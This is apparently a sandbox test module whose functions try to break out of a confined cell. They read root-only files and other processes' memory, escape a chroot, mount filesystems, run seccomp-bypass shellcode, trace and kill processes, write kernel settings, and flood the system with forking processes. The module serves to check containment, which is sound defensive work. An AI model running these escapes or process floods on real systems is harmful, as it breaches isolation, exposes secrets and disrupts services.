"""Attempts to escape from a cell. It runs in the cell, alone: only the standard library is there.

    python -m cell_attacks NAME OUTSIDE        prints `held`, or `ESCAPED` and what was reached

OUTSIDE is a file, JSON: what lies outside, which an attack tries to reach. Every attack returns what it reached.
"""

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import platform
import socket
import struct
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

Outside = dict[str, Any]
LIBC = ctypes.CDLL(None, use_errno=True)
NEW_USERS, NEW_MOUNTS = 0x10000000, 0x00020000


def reads(*paths: object) -> list[str]:
    """Those of the paths that can be read, or listed."""
    reached = []
    for path in map(Path, map(str, paths)):
        with contextlib.suppress(OSError):
            if path.is_dir():
                reached += [str(path)] if os.listdir(path) else []
            else:
                with path.open("rb") as stream:
                    reached += [str(path)] if stream.read(1) else []
    return reached


def writes(*paths: object) -> list[str]:
    """Those of the paths that can be written to. What was not there is removed again."""
    reached = []
    for path in map(str, paths):
        is_new = not os.path.lexists(path)
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_NOFOLLOW, 0o666))
            reached.append(path)
            if is_new:
                os.unlink(path)
    return reached


def calls(name: str, number: int | None = None, *arguments: Any) -> list[str]:
    """The name of a system call that succeeds, or that fails for another reason than that it is forbidden."""
    if number is None:
        return []
    ctypes.set_errno(0)
    whole = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    if LIBC.syscall(ctypes.c_long(number), *whole) >= 0:
        return [name]
    refused = (errno.EPERM, errno.ENOSYS, errno.EACCES)
    return [] if ctypes.get_errno() in refused else [f"{name}: {os.strerror(ctypes.get_errno())}"]


# Files


def read_what_root_alone_may_read(outside: Outside) -> list[str]:
    return reads(
        "/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.bashrc", "/root/.ssh", "/proc/kcore", "/dev/mem"
    )


def read_what_everybody_may_read(outside: Outside) -> list[str]:
    return reads(outside["secret"], Path(outside["secret"]).parent, "/etc/hosts", "/etc/hostname", "/etc/resolv.conf")


def read_the_rest_of_the_checkout(outside: Outside) -> list[str]:
    root = Path(outside["checkout"])
    return reads(*(root / name for name in ("README.md", ".git", "tests", "artifacts", "data", "docs")))


def read_what_the_parent_keeps(outside: Outside) -> list[str]:
    return reads("../kept", "../kept/mine")


def write_what_the_parent_gives(outside: Outside) -> list[str]:
    return writes("../given/mine", "../given/new", "../new", "../root/new")


def go_through_the_roots_of_processes(outside: Outside) -> list[str]:
    processes = ["self", "1", *map(str, outside["processes"])]
    inner = [f"/proc/{process}/root{outside['secret']}" for process in processes]
    inner += [f"/proc/{process}/cwd/../../../../../..{outside['secret']}" for process in processes]
    return reads(*inner)


def look_into_processes(outside: Outside) -> list[str]:
    names = ("environ", "mem", "maps", "fd", "cmdline", "map_files")
    return reads(*(f"/proc/{process}/{name}" for process in outside["processes"] for name in names))


def go_up_and_back(outside: Outside) -> list[str]:
    """The way out of a chroot: a folder that stays open while the root changes."""
    reached = []
    with contextlib.suppress(OSError):
        folder = os.open(".", os.O_RDONLY)
        Path("inner").mkdir()
        os.chroot("inner")
        os.fchdir(folder)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        reached = reads(outside["secret"])
    return reached


def write_to_the_system(outside: Outside) -> list[str]:
    folders = ["/", "/usr", "/usr/bin", "/etc", "/var", "/var/lib", "/root", "/home", "/opt", "/lib", "/dev", "/sys"]
    folders += [sys.prefix, sys.base_prefix, outside["checkout"], f"{outside['checkout']}/contract"]
    folders += [str(Path(os.__file__).parent), str(Path(sys.executable).parent)]
    return writes(*(f"{folder}/rosetta-was-here" for folder in folders), "/etc/passwd", os.__file__, sys.executable)


def write_where_everybody_may(outside: Outside) -> list[str]:
    written = writes(f"{outside['open']}/new", f"{outside['open']}/there")
    with contextlib.suppress(OSError):
        Path("mine").touch()
        os.rename("mine", f"{outside['open']}/moved")
        written.append("a file moved out")
    return written


def change_files_without_opening_them(outside: Outside) -> list[str]:
    """The caller looks whether anything changed."""
    for path in (outside["own"], f"{outside['open']}/there", outside["file"]):
        changes: tuple[Callable[[str], object], ...] = (
            lambda path: os.truncate(path, 0),
            lambda path: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC)),
            lambda path: os.chmod(path, 0o777),
            lambda path: os.utime(path, (1, 1)),
            lambda path: os.setxattr(path, "user.mine", b"1"),
            lambda path: os.rename(path, f"{path}.moved"),
            lambda path: os.unlink(path),
        )
        for change in changes:
            with contextlib.suppress(OSError):
                change(path)
    return []


def link_to_files_outside(outside: Outside) -> list[str]:
    reached = []
    for number, path in enumerate((outside["secret"], outside["own"], outside["file"], "/etc/passwd", sys.executable)):
        with contextlib.suppress(OSError):
            os.link(path, f"hard{number}")
            reached.append(path)
    return reached


def mount_things(outside: Outside) -> list[str]:
    reached = []
    for source, target, kind, flags in (
        (b"none", b"/", b"", 0x20 | 0x1000),  # remount, bind: not read-only any more
        (b"none", b"/usr", b"", 0x20 | 0x1000),
        (b"/", b".", b"", 0x1000 | 0x4000),
        (b"none", b".", b"tmpfs", 0),
        (b"proc", b".", b"proc", 0),
        (b"none", b".", b"overlay", 0),
        (b"none", b".", b"cgroup2", 0),
    ):
        if LIBC.mount(source, target, kind, ctypes.c_ulong(flags), None) == 0:
            reached.append(f"mount {target.decode()} {kind.decode()}")
    reached += ["umount"] if LIBC.umount2(b"/proc", 2) == 0 or LIBC.umount2(b"/usr", 2) == 0 else []
    return reached + calls("open_tree", 428, -100, b"/", 1) + calls("fsopen", 430, b"tmpfs", 0)


def open_devices(outside: Outside) -> list[str]:
    names = (
        "mem kmem port kmsg fuse kvm sda vda nvme0n1 loop-control net/tun vhost-net uinput ptmx console tty1".split()
    )
    reached = writes(*(f"/dev/{name}" for name in names if Path("/dev", name).exists()))
    for mode, device in ((0o020666, (1, 1)), (0o060666, (254, 0)), (0o060666, (8, 0))):
        with contextlib.suppress(OSError):
            os.mknod("device", mode, os.makedev(*device))
            reached.append(f"a device {device}")
    return reached


def change_the_kernels_settings(outside: Outside) -> list[str]:
    names = ("kernel/core_pattern", "kernel/modprobe", "kernel/hostname", "vm/drop_caches", "fs/binfmt_misc/register")
    paths = [f"/proc/sys/{name}" for name in names] + ["/proc/sysrq-trigger", "/sys/power/state"]
    groups = (
        [path for path in Path("/sys/fs/cgroup").glob("*") if path.is_dir()] if Path("/sys/fs/cgroup").exists() else []
    )
    for group in (Path("/sys/fs/cgroup"), *groups):
        paths += [f"{group}/{name}" for name in ("cgroup.procs", "tasks", "release_agent", "notify_on_release")]
    return writes(*(path for path in paths if Path(path).exists()))


# Privileges


def have_privileges(outside: Outside) -> list[str]:
    status = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines())
    reached = [name for name in ("CapInh", "CapPrm", "CapEff", "CapAmb") if int(status[name], 16)]
    reached += ["new privileges"] if int(status["NoNewPrivs"]) != 1 else []
    reached += ["no filter"] if int(status["Seccomp"]) != 2 else []
    if outside["is_root"]:  # it has no capability, and no view of root's files
        return reached
    reached += ["root"] if 0 in map(int, (status["Uid"] + status["Gid"]).split()) else []
    return reached + [f"group {group}" for group in status["Groups"].split() if group == "0"]


def become_another_user(outside: Outside) -> list[str]:
    reached = []
    for name, value in (("setuid", 65534 if outside["is_root"] else 0), ("setgroups", [0])):
        with contextlib.suppress(OSError):
            getattr(os, name)(value)
            reached.append(name)
    return reached


def run_programs_that_are_root(outside: Outside) -> list[str]:
    reached = []
    for program in (outside["set_user_id"], "/usr/bin/su", "/bin/su", "/usr/bin/mount", "/usr/bin/sudo"):
        with contextlib.suppress(OSError, subprocess.TimeoutExpired):
            command = [program, "-u"] if program == outside["set_user_id"] else [program, "--version"]
            done = subprocess.run(command, capture_output=True, timeout=10, check=False)
            reached += [program] if done.stdout.strip() == b"0" else []
    return reached


def make_namespaces(outside: Outside) -> list[str]:
    reached = [hex(flag) for flag in (NEW_USERS, NEW_USERS | NEW_MOUNTS, 0x20000000) if LIBC.unshare(flag) == 0]
    x86 = platform.machine() == "x86_64"
    if (child := LIBC.syscall(ctypes.c_long(56 if x86 else 220), ctypes.c_long(NEW_USERS | 17), 0, 0, 0, 0)) == 0:
        os._exit(0)
    reached += ["clone"] if child > 0 else []
    arguments = struct.pack("=QQQQQQQQ", NEW_USERS, 0, 0, 0, 17, 0, 0, 0)
    if (child := LIBC.syscall(ctypes.c_long(435), arguments, ctypes.c_long(64))) == 0:
        os._exit(0)
    return reached + (["clone3"] if child > 0 else [])


def use_the_kernels_rarer_calls(outside: Outside) -> list[str]:
    """Each in its number for x86_64 and for aarch64."""
    column = 0 if platform.machine() == "x86_64" else 1
    reached = []
    for name, numbers, arguments in (
        ("bpf", (321, 280), (0, bytes(128), 128)),
        ("perf_event_open", (298, 241), (bytes(128), 0, -1, -1, 0)),
        ("userfaultfd", (323, 282), (1,)),
        ("io_uring_setup", (425, 425), (1, bytes(128))),
        ("keyctl", (250, 219), (0, -3, 0, 0, 0)),
        ("add_key", (248, 217), (b"user", b"mine", b"1", 1, -3)),
        ("init_module", (175, 105), (b"", 0, b"")),
        ("finit_module", (313, 273), (0, b"", 0)),
        ("kexec_load", (246, 104), (0, 0, 0, 0)),
        ("fanotify_init", (300, 262), (0, 0)),
        ("open_by_handle_at", (304, 265), (-100, bytes(128), 0)),
        ("reboot", (169, 142), (0, 0, 0, 0)),
        ("swapon", (167, 224), (b"none", 0)),
        ("acct", (163, 89), (0,)),
        ("settimeofday", (164, 170), (0, 0)),
        ("personality", (135, 92), (0x0040000,)),
        ("memfd_create", (319, 279), (b"mine", 0)),
        ("memfd_secret", (447, 447), (0,)),
        ("setns", (308, 268), (0, 0)),
        ("pivot_root", (155, 41), (b".", b".")),
        ("process_vm_readv", (310, 270), (outside["processes"][0], 0, 0, 0, 0, 0)),
        ("kcmp", (312, 272), (1, 1, 0, 0, 0)),
        ("syslog", (103, 116), (3, bytes(16), 16)),
        ("quotactl", (179, 60), (0, 0, 0, 0)),
    ):
        reached += calls(name, numbers[column], *arguments)
    return reached


def use_the_calls_of_another_architecture(outside: Outside) -> list[str]:
    """A filter of the numbers of one architecture may let those of another through. The kernel ends this process."""
    if platform.machine() != "x86_64":
        return []
    x32 = LIBC.syscall(ctypes.c_long(0x40000000 + 272), ctypes.c_long(NEW_USERS))
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"  # unshare(NEW_USERS), by int 0x80
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    print("held", flush=True)  # the kernel may end it now
    return (["x32"] if x32 >= 0 else []) + (["int 0x80"] if function() == 0 else [])


# Other processes


def see_processes(outside: Outside) -> list[str]:
    reached = []
    for name in filter(str.isdigit, os.listdir("/proc") if reads("/proc") else map(str, range(1, 70_000))):
        with contextlib.suppress(OSError):
            command = Path("/proc", name, "cmdline").read_bytes()
            reached += [name] if outside["marker"].encode() in command and int(name) != os.getpid() else []
    return reached


def signal_processes(outside: Outside) -> list[str]:
    reached = []
    column = 0 if platform.machine() == "x86_64" else 1
    for process in outside["processes"]:
        for name, numbers, arguments in (
            ("kill", (62, 129), (process, 9)),
            ("tkill", (200, 130), (process, 9)),
            ("tgkill", (234, 131), (process, process, 9)),
            ("rt_sigqueueinfo", (129, 138), (process, 9, bytes(128))),
            ("kill its group", (62, 129), (-process, 9)),
            ("pidfd_open", (434, 434), (process, 0)),
            ("prlimit64", (302, 261), (process, 7, struct.pack("=QQ", 3, 3), 0)),
        ):
            whole = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
            done = LIBC.syscall(ctypes.c_long(numbers[column]), *whole)
            reached += [f"{name} {process}"] if done >= 0 else []
    return reached


def signal_processes_by_files(outside: Outside) -> list[str]:
    """A file can be told whom to signal when it can be read. The caller looks whether a process has ended."""
    for process in outside["processes"]:
        for owner in (process, -process):
            reading, writing = os.pipe()
            with contextlib.suppress(OSError):
                fcntl.fcntl(reading, fcntl.F_SETOWN, owner)
                fcntl.fcntl(reading, fcntl.F_SETSIG, 9)
                fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                os.write(writing, b"x")
        with contextlib.suppress(OSError):
            here, there = socket.socketpair()
            fcntl.ioctl(here, 0x8901, struct.pack("i", process))  # FIOSETOWN
            fcntl.fcntl(here, fcntl.F_SETSIG, 9)
            fcntl.fcntl(here, fcntl.F_SETFL, os.O_ASYNC)
            there.send(b"x")
    return []


def slow_processes_down(outside: Outside) -> list[str]:
    """Those of the same user, which may do so; calls that only pretend to succeed change nothing."""
    victim = outside["processes"][0]

    def state() -> object:
        known: list[object] = []
        for ask in (
            lambda: os.getpriority(os.PRIO_PROCESS, victim),
            lambda: os.sched_getscheduler(victim),
            lambda: sorted(os.sched_getaffinity(victim)),
            lambda: LIBC.syscall(column[0], 1, victim),
        ):
            try:
                known.append(ask())
            except OSError:
                known.append(None)
        return known

    column = (252, 251) if platform.machine() == "x86_64" else (31, 30)  # ioprio_get, ioprio_set
    before = state()
    for change in (
        lambda: os.setpriority(os.PRIO_PROCESS, victim, 19),
        lambda: os.setpriority(os.PRIO_USER, 0, 19),
        lambda: os.sched_setscheduler(victim, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(victim, {min(os.sched_getaffinity(0))}),
        lambda: LIBC.syscall(column[1], 1, victim, 3 << 13),
    ):
        with contextlib.suppress(OSError):
            change()
    return [] if state() == before else [f"{before} -> {state()}"]


def trace_processes(outside: Outside) -> list[str]:
    return [
        f"{request} {process}"
        for process in (*outside["processes"], 1, os.getppid())
        for request in (16, 0x4206)  # PTRACE_ATTACH, PTRACE_SEIZE
        if LIBC.ptrace(request, process, 0, 0) == 0
    ]


def use_inherited_files(outside: Outside) -> list[str]:
    mine = {0, 1, 2}
    reached = []
    for number in range(3, 1024):
        with contextlib.suppress(OSError):
            fcntl.fcntl(number, fcntl.F_GETFD)
            reached += [f"{number}: {os.readlink(f'/proc/self/fd/{number}')}"] if number not in mine else []
    return reached + (["standard input"] if os.read(0, 1) else [])


def read_the_callers_variables(outside: Outside) -> list[str]:
    return [name for name in os.environ if name == "ROSETTA_TEST_SECRET"]


def type_into_the_terminal(outside: Outside) -> list[str]:
    reached = writes("/dev/tty")
    for number in range(3):
        for request in (0x5412, 0x541C, 0x5423):
            with contextlib.suppress(OSError):
                fcntl.ioctl(number, request, b"x")
                reached.append(f"ioctl {request:#x}")
    return reached


def share_memory(outside: Outside) -> list[str]:
    LIBC.shmat.restype = ctypes.c_void_p
    found = LIBC.shmget(outside["shared_memory"], 4096, 0o666)
    reached = ["shmget"] if found >= 0 else []
    if LIBC.shmat(outside["shared_memory_id"], None, 0) not in (None, 2**64 - 1):
        reached.append("shmat")
    return reached + reads(f"/dev/shm/{outside['marker']}")


# The network


def connect(outside: Outside) -> list[str]:
    reached = []
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", outside["port"])),
        (socket.AF_INET6, ("::1", outside["port"])),
        (socket.AF_UNIX, f"\0{outside['marker']}"),
        (socket.AF_UNIX, outside["socket"]),
        (socket.AF_UNIX, "/run/docker.sock"),
        (socket.AF_UNIX, "/run/dbus/system_bus_socket"),
    ):
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as connection:
            connection.settimeout(5)
            connection.connect(address)
            reached.append(str(address))
    return reached


def open_sockets(outside: Outside) -> list[str]:
    reached = []
    for family in range(46):
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_RAW):
            with contextlib.suppress(OSError), socket.socket(family, kind):
                reached.append(f"family {family}")
    return reached


# Too much


def write_a_file_with_a_hole(outside: Outside) -> list[str]:
    with Path("hole").open("wb") as stream:
        try:
            stream.truncate(8 << 40)
        except OSError:
            return []
    return ["8 TB"]


def start_processes_without_end(outside: Outside) -> list[str]:
    for _ in range(5000):
        try:
            if os.fork() == 0:
                os.setsid()
                os.execv(sys.executable, [sys.executable, "-c", f"import time; time.sleep(600)  # {outside['marker']}"])
        except OSError:
            return []
    return ["5000 processes"]


def leave_a_process_behind(outside: Outside) -> list[str]:
    code = f"import os, time; os.setsid() if os.fork() == 0 else os._exit(0); time.sleep(600)  # {outside['marker']}"
    with contextlib.suppress(BlockingIOError):  # no process can be made: the limit counts those of other cells, too
        subprocess.run([sys.executable, "-c", code], check=True)
        subprocess.Popen(
            [sys.executable, "-c", f"import time; time.sleep(600)  # {outside['marker']}"], start_new_session=True
        )
    return []


def leave_a_process_behind_that_is_never_the_same(outside: Outside) -> list[str]:
    """It forks and ends, over and over: whoever is about to end it finds another one in its place."""
    code = f"""
import ctypes, os  # {outside["marker"]}
library = ctypes.CDLL(None)
fork, end = library.fork, library._exit
os.write(1, b"x")
while True:
    fork() > 0 and end(0)
"""
    with contextlib.suppress(BlockingIOError):
        for _ in range(4):
            command = [sys.executable, "-I", "-S", "-c", code]
            started = subprocess.Popen(command, stdout=subprocess.PIPE, start_new_session=True)
            assert started.stdout is not None and started.stdout.read(1)
    return []


ATTACKS: dict[str, Callable[[Outside], list[str]]] = {
    name: value
    for name, value in list(globals().items())
    if callable(value) and getattr(value, "__annotations__", {}).get("outside") is Outside
}


def main(arguments: list[str]) -> Iterator[str]:
    name, outside = arguments
    reached = ATTACKS[name](json.loads(Path(outside).read_bytes()))
    yield f"ESCAPED {reached}" if reached else "held"


if __name__ == "__main__":
    print(*main(sys.argv[1:]), sep="\n", flush=True)
